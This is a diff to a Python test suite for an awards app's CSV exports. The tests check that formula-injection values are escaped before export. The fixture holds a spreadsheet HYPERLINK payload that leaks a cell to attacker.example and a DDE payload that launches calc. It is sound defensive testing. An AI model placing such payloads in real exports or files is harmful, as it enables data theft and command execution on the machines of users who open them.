@@ -124,7 +124,9 @@ def test_exports_from_the_admin_pages(app, logged_in, seeded_award, make_user, m
     as_json = client.get("/admin/awards/excellence-award/results.json")
     assert as_json.headers["Content-Disposition"].endswith('results-mean.json"')
     assert as_json.json["nominees"][0]["slug"] == "evikomp"
-    scores_csv = client.get("/admin/awards/excellence-award/scores.csv").get_data(as_text=True)
+    scores_csv = (
+        client.get("/admin/awards/excellence-award/scores.csv").get_data().decode("utf-8-sig")
+    )
     rows = list(csv.DictReader(io.StringIO(scores_csv)))
     assert len(rows) == 5  # one per criterion
     assert rows[0]["juror"] == jurors["Ann"].name
@@ -307,3 +309,67 @@ def test_the_ranking_tables_are_labelled_regions_a_keyboard_can_scroll(
     ranking_head = page[start : page.index("</thead>", start)]
     assert ranking_head.count("<th ") == 10  # rank, nominee, score, 5 criteria, n, spread
     assert "The jury's scores under every method" in page
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "organisation": "+1+1",
+    "city": "-2+3",
+    "country": "@SUM(1+1)",
+}
+
+
+def _booby_trapped(award, make_user, make_evaluation):
+    """A nominee imported with formulas in every field, scored by a juror whose comments are
+    formulas too; the juror's name needs UTF-8."""
+    nominee = next(n for n in award.nominees if n.slug == "evikomp")
+    for field, value in FORMULAS.items():
+        setattr(nominee, field, value)
+    juror = make_user(name="Müller-Łęcka", awards=[award])
+    evaluation = make_evaluation(
+        nominee, juror, dict.fromkeys(ALL, 9), submitted=True, comment="=cmd|' /C calc'!A0"
+    )
+    evaluation.scores[0].comment = "\t=1+1"
+    evaluation.scores[1].comment = "\r=1+1"
+    db.session.commit()
+
+
+def test_downloaded_csv_exports_defuse_formulas_and_open_in_excel(
+    app, logged_in, seeded_award, make_user, make_evaluation
+):
+    _booby_trapped(seeded_award, make_user, make_evaluation)
+    client, _ = logged_in(role="admin")
+
+    raw = client.get("/admin/awards/excellence-award/results.csv").get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
+    results_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    first = results_rows[0]
+    assert first["slug"] == "evikomp" and first["rank"] == "1"
+    for field, value in FORMULAS.items():
+        assert first[field] == "'" + value  # shown as text, never run
+    assert first["score"] == "88.89"  # numbers stay numbers
+
+    raw = client.get("/admin/awards/excellence-award/scores.csv").get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0]["juror"] == "Müller-Łęcka"
+    assert {row["comment"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert rows[0]["criterion_comment"] == "'\t=1+1"
+    assert rows[1]["criterion_comment"] == "'\r=1+1"
+    assert rows[0]["score"] == "9"
+    # Every cell: none starts like a formula.
+    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
+    cells += [cell for row in results_rows for cell in row.values() if cell is not None]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+def test_the_results_cli_csv_defuses_formulas_without_a_bom(
+    app, runner, seeded_award, make_user, make_evaluation
+):
+    _booby_trapped(seeded_award, make_user, make_evaluation)
+    result = runner.invoke(args=["results", "excellence-award", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    assert not result.output.startswith("\ufeff")  # a pipe's reader gets plain UTF-8
+    first = next(csv.DictReader(io.StringIO(result.output)))
+    assert first["title"] == "'" + FORMULAS["title"]
+    assert first["city"] == "'-2+3"
